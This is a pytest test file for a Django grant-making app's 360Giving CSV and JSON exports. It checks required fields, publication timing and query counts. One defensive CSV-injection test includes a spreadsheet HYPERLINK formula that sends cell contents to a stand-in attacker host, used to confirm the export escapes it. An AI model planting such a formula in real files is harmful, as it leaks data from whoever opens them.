"""The grants a round awarded, as 360Giving open data: public once the decisions have gone to the
applicants, every required field present and well formed, declined applications never published."""

import csv
import io
import json
import re
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from commissioning.models import FundingRound
from panels.models import FundingDecision
from panels.open_data import CSV_COLUMNS
from tests.applications.factories import OrganisationFactory
from tests.helpers import assert_page_queries
from tests.panels.decided import decide, decided_round

pytestmark = pytest.mark.django_db

ORG_ID = re.compile(r"^(GB-CHC|GB-SC|GB-NIC|GB-COH)-|^360G-")
FUNDER_ID = re.compile(r"^[A-Z]{2}-[A-Z]{2,5}-\S+$")
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
REQUIRED_CSV = [
    "Identifier",
    "Title",
    "Description",
    "Currency",
    "Amount Awarded",
    "Award Date",
    "Recipient Org:Identifier",
    "Recipient Org:Name",
    "Funding Org:Identifier",
    "Funding Org:Name",
]


@pytest.fixture
def funding_round():
    return decided_round()


@pytest.fixture
def grants(funding_round):
    """A charity, a Scottish charity, a company and an unregistered group funded; one declined."""
    late_evening = datetime(2018, 7, 20, 23, 30, tzinfo=ZoneInfo("Europe/London"))  # 22:30 UTC, same UK day
    return {
        "charity": decide(
            funding_round,
            OrganisationFactory(name="Armley Helping Hands", charity_number="1164883"),
            amount=Decimal("85000"),
            decided_at=late_evening,
        ),
        "scottish": decide(
            funding_round,
            OrganisationFactory(name="Borders Befrienders", charity_number="SC012345"),
            outcome=FundingDecision.Outcome.FUND_WITH_CONDITIONS,
            amount=Decimal("60000.50"),
            conditions="Report after six months.",
        ),
        "company": decide(
            funding_round,
            OrganisationFactory(
                name="Holbeck Men's Shed",
                kind="community_interest_company",
                charity_number="",
                company_number="01234567",
            ),
            amount=Decimal("120000"),
        ),
        "group": decide(
            funding_round,
            OrganisationFactory(name="Seacroft Good Neighbours", kind="community_group", charity_number=""),
            amount=Decimal("50000"),
        ),
        "declined": decide(
            funding_round,
            OrganisationFactory(name="Declined Dance Club"),
            outcome=FundingDecision.Outcome.DECLINE,
            amount=None,
        ),
    }


def csv_rows(client, funding_round):
    response = client.get(reverse("panels:grants_csv", args=[funding_round.slug]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="{funding_round.slug}-grants.csv"' in response["Content-Disposition"]
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8")))
    return reader.fieldnames, list(reader)


def json_grants(client, funding_round):
    response = client.get(reverse("panels:grants_json", args=[funding_round.slug]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    return json.loads(response.content)["grants"]


def test_the_csv_has_the_standards_columns_and_one_row_per_awarded_grant(client, funding_round, grants):
    columns, rows = csv_rows(client, funding_round)

    assert columns == CSV_COLUMNS
    assert set(REQUIRED_CSV) <= set(columns)
    assert "Recipient Org:Charity Number" in columns and "Recipient Org:Company Number" in columns
    assert len(rows) == 4
    assert "Declined Dance Club" not in {row["Recipient Org:Name"] for row in rows}


def test_every_required_csv_field_is_present_and_well_formed(client, funding_round, grants):
    _, rows = csv_rows(client, funding_round)
    references = {application.reference for application in grants.values()}

    for row in rows:
        assert all(row[column].strip() for column in REQUIRED_CSV), row
        prefix, _, reference = row["Identifier"].partition("-TTS-")
        assert prefix == "360G-tts" and f"TTS-{reference}" in references
        assert row["Currency"] == "GBP"
        assert Decimal(row["Amount Awarded"]) > 0
        assert ISO_DATE.match(row["Award Date"])
        assert ORG_ID.match(row["Recipient Org:Identifier"]), row["Recipient Org:Identifier"]
        assert FUNDER_ID.match(row["Funding Org:Identifier"])
        assert row["Funding Org:Name"] == "The National Lottery Community Fund"


def test_the_csv_says_who_got_what(client, funding_round, grants):
    _, rows = csv_rows(client, funding_round)
    by_name = {row["Recipient Org:Name"]: row for row in rows}

    armley = by_name["Armley Helping Hands"]
    assert armley["Identifier"] == f"360G-tts-{grants['charity'].reference}"
    assert armley["Title"] == "Tea, talk and a lift there"
    assert "Armley Helping Hands" in armley["Description"]
    assert armley["Amount Awarded"] == "85000"
    # Decided at 11:30 pm UK time: the award date is the UK day, not the UTC one.
    assert armley["Award Date"] == "2018-07-20"
    assert armley["Recipient Org:Identifier"] == "GB-CHC-1164883"
    assert armley["Recipient Org:Charity Number"] == "1164883"
    assert armley["Recipient Org:Company Number"] == ""
    assert by_name["Borders Befrienders"]["Recipient Org:Identifier"] == "GB-SC-SC012345"
    assert by_name["Borders Befrienders"]["Amount Awarded"] == "60000.5"
    shed = by_name["Holbeck Men's Shed"]
    assert shed["Recipient Org:Identifier"] == "GB-COH-01234567"
    assert shed["Recipient Org:Company Number"] == "01234567"
    group = by_name["Seacroft Good Neighbours"]
    assert group["Recipient Org:Identifier"] == f"360G-tts-ORG-{grants['group'].organisation.pk:05d}"
    assert group["Recipient Org:Charity Number"] == group["Recipient Org:Company Number"] == ""


def test_the_json_has_the_standards_shape_and_required_fields(client, funding_round, grants):
    published = json_grants(client, funding_round)

    assert len(published) == 4
    for grant in published:
        assert grant["id"].startswith("360G-tts-TTS-")
        assert grant["title"] and grant["description"]
        assert grant["currency"] == "GBP"
        assert isinstance(grant["amountAwarded"], int | float) and grant["amountAwarded"] > 0
        assert ISO_DATE.match(grant["awardDate"])
        [recipient] = grant["recipientOrganization"]
        assert ORG_ID.match(recipient["id"]) and recipient["name"]
        [funder] = grant["fundingOrganization"]
        assert funder == {"id": "GB-GOR-PB188", "name": "The National Lottery Community Fund"}
    by_name = {grant["recipientOrganization"][0]["name"]: grant for grant in published}
    assert by_name["Armley Helping Hands"]["recipientOrganization"][0] == {
        "id": "GB-CHC-1164883",
        "name": "Armley Helping Hands",
        "charityNumber": "1164883",
    }
    assert by_name["Holbeck Men's Shed"]["recipientOrganization"][0]["companyNumber"] == "01234567"
    assert "charityNumber" not in by_name["Seacroft Good Neighbours"]["recipientOrganization"][0]
    assert by_name["Armley Helping Hands"]["amountAwarded"] == 85000


def test_the_csv_and_the_json_publish_the_same_grants(client, funding_round, grants):
    _, rows = csv_rows(client, funding_round)
    published = json_grants(client, funding_round)
    assert [row["Identifier"] for row in rows] == [grant["id"] for grant in published]


@pytest.mark.parametrize("name", ["panels:grants_csv", "panels:grants_json"])
def test_the_files_cost_the_same_queries_however_many_grants(client, funding_round, grants, name):
    def more_grants():
        for number in range(5):
            decide(funding_round, OrganisationFactory(name=f"Another group {number}"), amount=Decimal("50000"))

    assert_page_queries(client, reverse(name, args=[funding_round.slug]), at_most=2, add_data=more_grants)


@pytest.mark.parametrize("name", ["panels:grants_csv", "panels:grants_json"])
@pytest.mark.parametrize(
    "status",
    [FundingRound.Status.OPEN, FundingRound.Status.SHORTLISTING, FundingRound.Status.DECISION],
)
def test_before_the_decisions_reach_the_applicants_nothing_is_published(
    client, facilitator, funding_round, grants, name, status
):
    FundingRound.objects.filter(pk=funding_round.pk).update(status=status)
    url = reverse(name, args=[funding_round.slug])
    assert client.get(url).status_code == 404
    client.force_login(facilitator)
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("name", ["panels:grants_csv", "panels:grants_json"])
def test_a_closed_round_stays_published(client, funding_round, grants, name):
    FundingRound.objects.filter(pk=funding_round.pk).update(status=FundingRound.Status.CLOSED)
    assert client.get(reverse(name, args=[funding_round.slug])).status_code == 200


@pytest.mark.parametrize("name", ["panels:grants_csv", "panels:grants_json"])
def test_unpublished_and_unknown_rounds_are_not_found(client, name):
    from tests.commissioning.factories import FundingRoundFactory

    hidden = FundingRoundFactory(criteria=True)
    assert client.get(reverse(name, args=[hidden.slug])).status_code == 404
    assert client.get(reverse(name, args=["no-such-round"])).status_code == 404


@pytest.mark.parametrize("name", ["panels:grants_csv", "panels:grants_json"])
def test_a_programme_without_360giving_identifiers_publishes_nothing(client, funding_round, grants, name):
    type(funding_round.programme).objects.filter(pk=funding_round.programme_id).update(grant_id_prefix="")
    assert client.get(reverse(name, args=[funding_round.slug])).status_code == 404


def test_the_files_cannot_be_posted_to(client, funding_round):
    assert client.post(reverse("panels:grants_csv", args=[funding_round.slug])).status_code == 405


def test_the_public_round_page_links_to_both_files_once_published(client, funding_round, grants):
    page = client.get(funding_round.get_absolute_url()).content.decode()
    assert "The grants awarded" in page
    assert reverse("panels:grants_csv", args=[funding_round.slug]) in page
    assert reverse("panels:grants_json", args=[funding_round.slug]) in page

    FundingRound.objects.filter(pk=funding_round.pk).update(status=FundingRound.Status.DECISION)
    page = client.get(funding_round.get_absolute_url()).content.decode()
    assert "The grants awarded" not in page
    assert reverse("panels:grants_csv", args=[funding_round.slug]) not in page


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+44 Friends",
        "-1+1",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_a_name_that_a_spreadsheet_would_run_reaches_the_csv_as_plain_text(client, funding_round, name):
    """OWASP's CSV-injection advice: a cell that begins =, +, -, @, tab or carriage return starts
    with an apostrophe, so a spreadsheet shows it instead of running it. The JSON keeps the name."""
    decide(funding_round, OrganisationFactory(name=name), amount=Decimal("50000"))
    _, rows = csv_rows(client, funding_round)
    names = [row["Recipient Org:Name"] for row in rows]
    assert names == ["'" + name]
    assert [grant["recipientOrganization"][0]["name"] for grant in json_grants(client, funding_round)] == [name]


def test_ordinary_names_and_amounts_are_left_as_they_are(client, funding_round, grants):
    _, rows = csv_rows(client, funding_round)
    assert not any(value.startswith("'") for row in rows for value in row.values())
